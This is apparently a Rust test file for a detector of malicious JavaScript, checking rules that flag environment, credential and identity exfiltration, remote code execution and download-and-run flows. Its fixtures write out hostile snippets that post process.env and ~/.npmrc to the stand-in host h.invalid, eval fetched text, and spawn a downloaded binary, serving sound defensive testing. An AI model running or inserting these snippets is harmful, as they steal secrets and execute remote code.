//! What bundles bring along, and what is followed in them however much there is.

use super::{Reach, outcome, read, rules};
use crate::analyze::script::covert::Choice;
use crate::analyze::script::event::Act;
use crate::analyze::script::flows;
use crate::analyze::script::machine::Machine;
use crate::parse::script::Language;

/// A module within a bundle that brings `fetch` and `FormData` along, whose code leads to a queue.
const LIBRARY: &str = "var made = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports);\n\
    var client = made((e, m) => { const q = []; class FormData { #l = []; set(n, v) { this.#l.push([n, v]); } }\n\
    m.exports.FormData = FormData; m.exports.fetch = (u, o) => { q.push([u, o]); return new Promise((r) => q.push(r)); }; });\n\
    var lib = client();\n";

#[test]
fn what_a_bundle_brings_along_of_the_platform_is_known_by_its_name() {
    let told = rules(
        Language::JavaScript,
        &format!(
            "{LIBRARY}(async () => {{ const f = new lib.FormData; f.set('r', JSON.stringify(process.env));\n\
             await (0, lib.fetch)('https://h.invalid/u', {{ method: 'POST', body: f }}); }})();"
        ),
    );
    assert!(told.contains(&"flow-environment-sent"), "{told:?}");
    let answered = rules(
        Language::JavaScript,
        &format!("{LIBRARY}(0, lib.fetch)('https://h.invalid/u').then((r) => r.text()).then((t) => eval(t));"),
    );
    assert!(answered.contains(&"flow-remote-code"), "{answered:?}");
    // What is no address of the web is asked of something else, and a library's own words come first.
    let other = outcome(Language::JavaScript, &format!("{LIBRARY}lib.fetch('notes', process.env);"));
    assert!(other.events.iter().all(|e| e.act != Act::Send && e.act != Act::Fetch), "{:?}", other.events);
}

#[test]
fn what_a_function_and_a_table_choose_by_the_surroundings_is_seen() {
    let alike = |code: &str| outcome(Language::JavaScript, code).choices.iter().any(Choice::is_among_look_alikes);
    let zone = "const z = () => Intl.DateTimeFormat().resolvedOptions().timeZone;";
    let returned = |a: &str, b: &str| {
        format!("{zone} function q(is) {{ if (is) return '{a}'; return '{b}'; }} const p = q(z() === 'Region/City');")
    };
    assert!(alike(&returned("\\u2019", "\\u02bc")) && alike(&returned("a\\u2009b", "a b")));
    assert!(!alike(&returned("yes", "no")) && !alike(&returned("/", "-")));
    // How quotations are written is a matter of language.
    let language = "function q(is) { if (is) return '\\u201e'; return '\\u201c'; } q(navigator.language === 'de');";
    assert!(!alike(language));
    let table = |asked: &str| {
        format!(
            "const run = (...a) => require('child_process').execFileSync('git', a, {{ encoding: 'utf8' }});\n\
             function kind() {{ const m = {asked}; for (let i = 0; i < 3; i++) if (m.endsWith(['a', 'b', 'c'][i])) return i + 1; return 0; }}\n\
             const g = [' ', '\\u00a0', '\\u2009', '\\u202f'][kind()];"
        )
    };
    assert!(alike(&table("run('config', 'user.email')")));
    assert!(!alike(&table("process.argv[2]")));
}

#[test]
fn a_short_function_that_acts_is_followed_however_much_was_before() {
    let busy = "function spin(n) { let x = n; for (let i = 0; i < 4000; i++) { x = (x * 7 + i) % 11; } return x; }\n\
                for (let i = 0; i < 40; i++) spin(i);\n";
    let send = "const os = require('os'); const send = (p, o) => { const r = require('https').request({ host: 'h.invalid', path: p, method: 'POST' }); r.end(JSON.stringify(o)); };\n";
    let code = format!(
        "{send}send('/a', location.a); send('/b', location.b);\n{busy}\n\
         send('/c', {{ u: os.userInfo(), n: os.networkInterfaces(), h: os.hostname() }});"
    );
    let reach = Reach { fuel: 400_000, more: 0, patience: 5_000 };
    let outcome = Machine::new(read(Language::JavaScript, &code), reach).run();
    let found: Vec<&str> = flows::judge(&outcome, false).iter().map(|f| f.rule.id).collect();
    assert!(outcome.cut_off && found.contains(&"flow-identity-sent"), "{found:?}");
}

#[test]
fn words_that_nobody_knows_do_not_hide_which_program_is_started() {
    for words in ["['--resume', ...process.argv.slice(2)]", "[...extra]", "[]"] {
        let code = format!(
            "const fs = require('fs'), file = require('path').join(require('os').homedir(), '.local', 'x');\n\
             fetch('https://h.invalid/x').then((r) => r.arrayBuffer()).then((b) => {{ fs.writeFileSync(file, b);\n\
             require('child_process').spawn(file, {words}, {{ detached: true }}).unref(); }});"
        );
        let found = rules(Language::JavaScript, &code);
        assert!(found.contains(&"flow-download-run"), "{words} {found:?}");
    }
}

#[test]
fn what_is_fetched_from_a_fixed_address_is_code_within_words_of_the_script_too() {
    let code = |address: &str| {
        format!(
            "const vm = require('vm'); async function load(address) {{ const r = await (await fetch({address})).json();\n\
             new vm.Script('(function (module, require) {{' + Buffer.from(r.compat, 'base64') + '\\n}})').runInThisContext()(m, require); }}\n\
             load(process.argv[2]);"
        )
    };
    let severity = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        flows::judge(&outcome, false)
            .iter()
            .find(|f| f.rule.id == "flow-remote-code")
            .map(|f| f.severity.unwrap_or(f.rule.severity))
    };
    assert_eq!(severity(&code("'https://h.invalid/rules.json'")), Some(crate::model::Severity::High));
    assert!(severity(&code("address")).is_none_or(|s| s < crate::model::Severity::High));
}

#[test]
fn the_whole_environment_beside_files_of_credentials_is_no_sign_in() {
    let code = |environment: &str| {
        format!(
            "const fs = require('fs'), os = require('os');\n\
             exports.check = async () => {{ const d = {{ n: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'){environment} }};\n\
             await fetch('https://h.invalid/u', {{ method: 'POST', body: JSON.stringify(d) }}); }};"
        )
    };
    let severity = |code: &str| {
        let outcome = outcome(Language::JavaScript, code);
        flows::judge(&outcome, false)
            .iter()
            .find(|f| f.rule.id == "flow-credentials-sent")
            .map(|f| f.severity.unwrap_or(f.rule.severity))
    };
    assert_eq!(severity(&code(", e: process.env")), Some(crate::model::Severity::High));
    assert_eq!(severity(&code("")), Some(crate::model::Severity::Medium));
}
